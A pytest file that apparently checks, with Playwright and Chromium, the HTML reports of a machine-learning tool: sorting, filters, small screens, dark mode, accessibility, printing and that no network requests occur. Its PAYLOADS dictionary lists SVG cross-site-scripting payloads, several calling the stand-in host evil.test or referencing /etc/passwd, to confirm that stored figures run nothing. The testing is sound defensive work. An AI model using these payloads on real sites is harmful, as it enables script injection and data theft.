"""The page in a browser: sorting, filtering, small screens, dark mode, keyboard, and no request to a network."""

import base64
import io
import itertools
import shutil
from contextlib import contextmanager

import numpy as np
import pytest
from made_up_runs import made_up
from PIL import Image

from longtail.commands.inspect import inspect_data
from longtail.inspection.advice import give_advice
from longtail.inspection.page import render_page
from longtail.inspection.suggestions import suggest_commands
from longtail.launch import train
from longtail.recipes import recipe_for
from longtail.report import write_report
from longtail.report.gallery import PredictedImage, write_gallery
from longtail.tracking import SilentReport
from tests.accessibility import find_barriers
from tests.data.pictures import class_folders

playwright = pytest.importorskip("playwright.sync_api", reason="needs playwright")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """Write the report of a trained run, and of two made-up runs with difficult class names."""
    out = tmp_path_factory.mktemp("pages")
    train(recipe_for("digits-lt", epochs=1, eval_every=0), out / "run", SilentReport())
    names = ["<b>bold</b>", "x" * 300, "Ähre", "class 10", "class 9", "untested"]
    runs = [
        made_up(out / name, names, [500, 200, 50, 30, 10, 2], untested=(5,), seed=seed, method=method).path
        for seed, (name, method) in enumerate((("a", "ecl"), ("b", "bc")))
    ]
    return {"one": write_report([out / "run"]), "two": write_report(runs, figures="none")}


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@contextmanager
def open_page(browser, path, **options):
    """Open a page without a network, and fail at the end if the page made a request or logged a message."""
    context, faults = browser.new_context(**options), []

    def answer(route):
        if route.request.url.startswith(("file:", "data:")):
            return route.continue_()
        faults.append(f"requested {route.request.url}")
        return route.abort()

    page = context.new_page()
    page.route("**/*", answer)
    page.on("console", lambda message: faults.append(message.text))
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(path.as_uri())
    yield page
    context.close()
    assert not faults


def read_column(page, index: int) -> list[str]:
    """Read the visible cells of a column of the class table."""
    script = "index => Array.from(document.querySelectorAll('.classes tbody tr:not([hidden])'), r => r.cells[index].innerText)"
    return page.evaluate(script, index)


def test_every_column_sorts_by_click_and_keyboard(browser, pages):
    with open_page(browser, pages["two"]) as page:
        heads = page.locator(".classes thead th")
        assert heads.nth(2).get_attribute("aria-sort") == "descending"
        page.get_by_role("button", name="Class", exact=True).click()
        assert read_column(page, 0)[:3] == ["<b>bold</b>", "Ähre", "class 9"] and read_column(page, 0)[3] == "class 10"
        assert heads.nth(0).get_attribute("aria-sort") == "ascending" and not heads.nth(2).get_attribute("aria-sort")
        button = page.get_by_role("button", name="ecl", exact=True)
        button.focus()
        page.keyboard.press("Enter")
        down = read_column(page, 3)
        assert down[-1] == "n/a" and [float(x) for x in down[:-1]] == sorted(map(float, down[:-1]), reverse=True)
        page.keyboard.press("Space")
        up = read_column(page, 3)
        assert up[-1] == "n/a" and [float(x) for x in up[:-1]] == sorted(map(float, up[:-1]))
        assert heads.nth(3).get_attribute("aria-sort") == "ascending"
        page.get_by_role("button", name="Group").click()
        assert read_column(page, 1) == ["many"] * 2 + ["medium"] * 2 + ["few"] * 2
        page.get_by_role("button", name="Difference").click()
        values = [float(x.replace("\N{MINUS SIGN}", "-")) for x in read_column(page, 5)[:-1]]
        assert values == sorted(values, reverse=True)


def test_the_filters_work_together_and_count_the_shown_classes(browser, pages):
    with open_page(browser, pages["two"]) as page:
        page.get_by_label("Class", exact=True).fill("CLASS")
        assert sorted(read_column(page, 0)) == ["class 10", "class 9"]
        assert page.locator(".filter output").inner_text() == "2 of 6 classes"
        page.get_by_label("Group").select_option("few")
        assert read_column(page, 0) == ["class 9"]
        page.get_by_label("Class", exact=True).fill("")
        assert read_column(page, 0) == ["class 9", "untested"]


@pytest.mark.parametrize("which", ["one", "two"])
@pytest.mark.parametrize("width", [320, 360, 1280])
def test_the_page_is_never_wider_than_the_screen(browser, pages, which, width):
    with open_page(browser, pages[which], viewport={"width": width, "height": 800}) as page:
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert page.evaluate("Array.from(document.querySelectorAll('.scroll')).every(e => e.clientWidth > 200)")


NAMES = {
    "Chrysaora_quinquecirrha_young_stage": 24,
    "Gadus_morhua": 8,
    "Hippocampus_hippocampus_entangled_in_a_net_" * 3: 3,
}


@pytest.fixture(scope="module")
def photographs(tmp_path_factory):
    """Write the page of an inspection and the page of predicted images, with long names."""
    out = tmp_path_factory.mktemp("photographs")
    class_folders(out / "my_photographs" / "train", NAMES)
    class_folders(out / "my_photographs" / "test", dict.fromkeys(NAMES, 2), first=100)
    facts = inspect_data(str(out / "my_photographs"), None, None, None, None, False)
    commands = suggest_commands(facts, {"root": "a_folder_" * 20})
    (out / "inspection.html").write_text(render_page(facts, give_advice(facts), commands))
    files = sorted((out / "my_photographs").rglob("*.png"))
    images = [PredictedImage(str(file), file.parent.name, i / 50) for i, file in enumerate(files)]
    write_gallery(out / "gallery.html", images, list(NAMES), "bc on my_photographs_" + "x" * 80, "41 images")
    return {"inspection": (out / "inspection.html", 9), "gallery": (out / "gallery.html", 41)}


@pytest.mark.parametrize("which", ["inspection", "gallery"])
@pytest.mark.parametrize("width", [400, 1280])
def test_pages_of_photographs_fit_a_telephone_and_show_every_photograph_whole(browser, photographs, which, width):
    path, number = photographs[which]
    with open_page(browser, path, viewport={"width": width, "height": 800}) as page:
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        loaded = "Array.from(document.images, image => [image.complete && image.naturalWidth, getComputedStyle(image).objectFit])"
        assert page.evaluate(loaded) == [[12, "contain"]] * number
        outside = """Array.from(document.querySelectorAll("main *"), e => [e.getBoundingClientRect().right, e.outerHTML])
            .filter(([right]) => right > innerWidth)"""
        assert page.evaluate(outside) == []


@pytest.mark.parametrize("which", ["inspection", "gallery"])
def test_pages_of_photographs_print_whole(browser, photographs, which):
    path, number = photographs[which]
    with open_page(browser, path, color_scheme="dark") as page:
        content = page.pdf(format="A4")
        assert content.count(b"/Subtype /Image") == number, "a print holds every photograph"
        page.set_viewport_size({"width": 700, "height": 900})
        page.emulate_media(media="print")
        cut = """Array.from(document.querySelectorAll("body, main, main *"))
            .filter(e => getComputedStyle(e).overflow !== "visible" && !/^(svg|img)$/i.test(e.tagName) || e.scrollWidth > 700)"""
        assert page.evaluate(f"{cut}.length") == 0
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"


CONTRAST = """() => {
  const parse = (text) => text.match(/[\\d.]+/g).map(Number);
  const light = (c) => c.slice(0, 3).map(v => v / 255).map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const page = light(parse(getComputedStyle(document.body).backgroundColor));
  const texts = Array.from(document.querySelectorAll("p, td, th, a, figcaption, caption span, summary, dd, svg text"));
  return texts.filter(e => e.textContent.trim()).map(e => {
    const style = getComputedStyle(e), value = light(parse(e.closest("svg") ? style.fill : style.color));
    return [(Math.max(page, value) + .05) / (Math.min(page, value) + .05), e.textContent.trim().slice(0, 40)];
  }).filter(([ratio]) => ratio < 4.5);
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_enough_contrast_in_light_and_dark_mode(browser, pages, scheme):
    with open_page(browser, pages["one"], color_scheme=scheme) as page:
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (background == "rgb(255, 255, 255)") == (scheme == "light")
        assert page.evaluate(CONTRAST) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("which", ["one", "two", "inspection", "gallery"])
def test_axe_core_finds_nothing_to_mend_for_people_with_disabilities(browser, pages, photographs, which, scheme):
    path = pages[which] if which in pages else photographs[which][0]
    with open_page(browser, path, color_scheme=scheme) as page:
        assert find_barriers(page) == []


def test_the_keyboard_reaches_the_results_first_and_the_focus_is_visible(browser, pages):
    with open_page(browser, pages["one"]) as page:
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.innerText") == "Skip to the results"
        assert page.evaluate("document.activeElement.getBoundingClientRect().top >= 0")
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        button = page.get_by_role("button", name="Flip TTA")
        button.focus()
        page.keyboard.press("Tab")
        page.keyboard.press("Shift+Tab")
        assert button.evaluate("e => getComputedStyle(e).outlineStyle") == "solid"


@pytest.mark.parametrize("which", ["one", "two"])
def test_headings_landmarks_and_captions_serve_a_screen_reader(browser, pages, which):
    with open_page(browser, pages[which]) as page:
        levels = page.evaluate("Array.from(document.querySelectorAll('h1, h2, h3, h4'), h => +h.tagName[1])")
        assert levels[0] == 1 and levels.count(1) == 1
        assert all(b - a <= 1 for a, b in itertools.pairwise(levels))
        for landmark in ("header", "nav", "main", "footer"):
            assert page.locator(f"body {landmark}").count() == 1
        bare = "Array.from(document.querySelectorAll('table')).filter(t => !t.caption || t.querySelector('th:not([scope])'))"
        assert page.evaluate(f"{bare}.length") == 0
        assert page.locator("figure svg:not([role=img])").count() == 0
        assert page.locator("img:not([alt])").count() == 0


def test_a_printed_page_hides_controls_and_shows_whole_tables(browser, pages):
    with open_page(browser, pages["one"], color_scheme="dark") as page:
        page.emulate_media(media="print")
        assert not page.locator(".filter").is_visible() and not page.locator("nav").is_visible()
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert page.evaluate(
            "Array.from(document.querySelectorAll('.scroll')).every(e => e.scrollHeight <= e.clientHeight + 1)"
        )


def test_without_scripts_the_tables_are_shown(browser, pages):
    with open_page(browser, pages["one"], java_script_enabled=False) as page:
        assert page.locator(".classes tbody tr").count() == 10 and not page.locator(".filter").is_visible()


HEAD = (
    '<svg role="img" aria-label="words" data-of="longtail figure {name}" xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" width="200" height="100"'
)
RUN = "top.document.title='taken';top.taken=1;fetch('http://evil.test/')"
PICTURE = "<rect width='200' height='100' fill='#00f'/>"
PAYLOADS = {
    "a script element": f">{PICTURE}<script>{RUN}</script></svg>",
    "a script in CDATA": f">{PICTURE}<script><![CDATA[{RUN}]]></script></svg>",
    "a script in another case and namespace": f" xmlns:h='http://www.w3.org/1999/xhtml'>{PICTURE}<h:script>{RUN}</h:script></svg>",
    "a script that is base64 data": f">{PICTURE}<script href='data:text/javascript;base64,"
    + base64.b64encode(RUN.encode()).decode()
    + "'/></svg>",
    "an external script": f">{PICTURE}<script xlink:href='http://evil.test/a.js'/></svg>",
    "onload of the root": f' onload="{RUN}">{PICTURE}</svg>',
    "onload after a slash": f"><g/><image href='data:,' onerror=\"{RUN}\"/>{PICTURE}</svg>",
    "a frame in a foreign object": ">" + PICTURE + "<foreignObject width='9' height='9'><iframe "
    f"xmlns='http://www.w3.org/1999/xhtml' srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"/></foreignObject></svg>",
    "an image with an error in a foreign object": ">" + PICTURE + "<foreignObject width='9' height='9'><img "
    f"xmlns='http://www.w3.org/1999/xhtml' src='x:' onerror=\"{RUN}\"/></foreignObject></svg>",
    "a link with a script": f">{PICTURE}<a href=\"javascript:{RUN}\"><rect width='200' height='100'/></a></svg>",
    "a link in entities": ">"
    + PICTURE
    + f"<a xlink:href=\"&#106;avascript&colon;{RUN}\"><rect width='200' height='100'/></a></svg>",
    "an animated link": f"><a>{PICTURE}<animate attributeName='href' values=\"javascript:{RUN}\" dur='1s'/></a></svg>",
    "an animated handler": f"><g>{PICTURE}<animate attributeName='x' dur='.01s' onbegin=\"{RUN}\"/></g></svg>",
    "a set link": f"><a>{PICTURE}<set attributeName='xlink:href' to=\"javascript:{RUN}\"/></a></svg>",
    "use of another file": f">{PICTURE}<use href='http://evil.test/a.svg#x'/><use xlink:href='file:///etc/passwd#x'/></svg>",
    "an external image": f">{PICTURE}<image href='http://evil.test/a.png' width='9' height='9'/></svg>",
    "an imported style": f">{PICTURE}<style>@import url(http://evil.test/a.css); * {{fill: url(//evil.test/b)}}</style></svg>",
    "a style sheet of the page": f">{PICTURE}<style>body, main {{display: none !important}}</style></svg>",
    "an entity": f'>{PICTURE}<!DOCTYPE svg [<!ENTITY x "<script>{RUN}</script>">]>&x;</svg>',
    "the end of the picture": f'>{PICTURE}</svg>"><script>{RUN}</script><img src=x onerror="{RUN}">',
    "a description with markup": None,
}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_stored_figure_of_a_shared_run_runs_nothing_and_loads_nothing(browser, tmp_path, payload):
    run = made_up(tmp_path / "run", ["a", "b"], [200, 5]).path
    (run / "figures").mkdir()
    svg = HEAD.format(name="landscape") + (PAYLOADS[payload] or f">{PICTURE}</svg>")
    if PAYLOADS[payload] is None:
        svg = svg.replace('"words"', '"&quot;&gt;&lt;script&gt;top.taken=1&lt;/script&gt;"')
    (run / "figures" / "landscape.svg").write_text(svg)
    with open_page(browser, write_report([run])) as page:
        title = page.title()
        picture = page.locator(".picture img")
        assert picture.count() == 1 and page.locator("figure svg script, figure a, iframe").count() == 0
        picture.scroll_into_view_if_needed()
        picture.click(position={"x": 5, "y": 5})
        page.wait_for_timeout(80)
        assert page.evaluate("window.taken === undefined") and page.title() == title != "taken"
        assert page.locator("main").is_visible() and page.url.startswith("file:")
        whole = page.evaluate("document.querySelector('.picture img').naturalWidth > 0")
        assert whole or payload in BROKEN


BROKEN = ("a link in entities", "an entity", "the end of the picture")  # no XML, so no picture


def test_the_policy_stops_scripts_and_styles_that_are_not_of_the_page(browser, pages, tmp_path):
    extra = (
        '<script>top.taken=1</script><img src="x:" onerror="top.taken=1"><p id="p" style="color:rgb(1, 2, 3)">'
        "<style>#p { color: rgb(1, 2, 3) }</style>"
    )
    (tmp_path / "changed.html").write_text(pages["two"].read_text().replace("</main>", f"{extra}</main>"))
    page = browser.new_page()
    page.goto((tmp_path / "changed.html").as_uri())
    page.wait_for_timeout(80)
    assert page.evaluate("window.taken === undefined")
    assert page.evaluate("getComputedStyle(document.getElementById('p')).color") != "rgb(1, 2, 3)"
    page.get_by_role("button", name="Class", exact=True).click()  # the script of the page still runs
    page.close()


def test_the_page_of_inspect_has_its_style_and_runs_nothing(browser, tmp_path):
    class_folders(tmp_path / "data" / "train", {"a": 30, "b": 5})
    html = render_page(inspect_data(str(tmp_path / "data"), None, None, None, None, False), ["look twice"])
    (tmp_path / "whole.html").write_text(html)
    with open_page(browser, tmp_path / "whole.html") as page:
        assert page.evaluate("getComputedStyle(document.querySelector('figure')).margin") == "0px"
        assert page.locator("svg path").count() == 2
    extra = '<script>top.taken=1</script><img src="x:" onerror="top.taken=1"><p id="p" style="color:rgb(1, 2, 3)">'
    (tmp_path / "changed.html").write_text(html.replace("</main>", f"{extra}</main>"))
    page = browser.new_page()
    page.goto((tmp_path / "changed.html").as_uri())
    page.wait_for_timeout(80)
    assert page.evaluate("window.taken === undefined")
    assert page.evaluate("getComputedStyle(document.getElementById('p')).color") != "rgb(1, 2, 3)"
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_stored_figure_is_dark_ink_on_white_in_light_and_dark_mode(browser, tmp_path, scheme):
    run = made_up(tmp_path / "run", ["a", "b"], [200, 5]).path
    (run / "figures").mkdir()
    content = '><rect x="50" width="100" height="100" fill="currentColor"/></svg>'
    (run / "figures" / "landscape.svg").write_text(HEAD.format(name="landscape") + content)
    with open_page(browser, write_report([run]), color_scheme=scheme) as page:
        image = page.locator(".picture img")
        image.scroll_into_view_if_needed()
        pixels = np.asarray(Image.open(io.BytesIO(image.screenshot())).convert("RGB"))
        height, width, _ = pixels.shape
        assert pixels[height // 2, width // 2].tolist() == [0x13, 0x14, 0x15]
        assert pixels[height // 2, width // 10].tolist() == [255, 255, 255]


def test_bars_and_figures_keep_their_widths_and_colors_without_style_attributes(browser, pages):
    with open_page(browser, pages["one"]) as page:
        shares = page.evaluate(
            "Array.from(document.querySelectorAll('.bar-row'), r => [r.querySelector('.fill').offsetWidth / "
            "r.querySelector('.bar').clientWidth * 100, +r.querySelector('.bar-value').innerText])"
        )
        assert shares and all(abs(drawn - printed) < 1 for drawn, printed in shares)
        properties = page.evaluate(
            "Array.from(document.querySelectorAll('.bar-cell'), c => [getComputedStyle(c).getPropertyValue('--p'), c.innerText])"
        )
        assert properties and all(float(p) == float(text) for p, text in properties)
        assert page.evaluate("Array.from(document.querySelectorAll('figure')).every(f => f.offsetWidth > 100)")
        filled = "Array.from(document.querySelectorAll('figure svg path'), p => getComputedStyle(p).fill)"
        assert len(set(page.evaluate(filled))) > 3
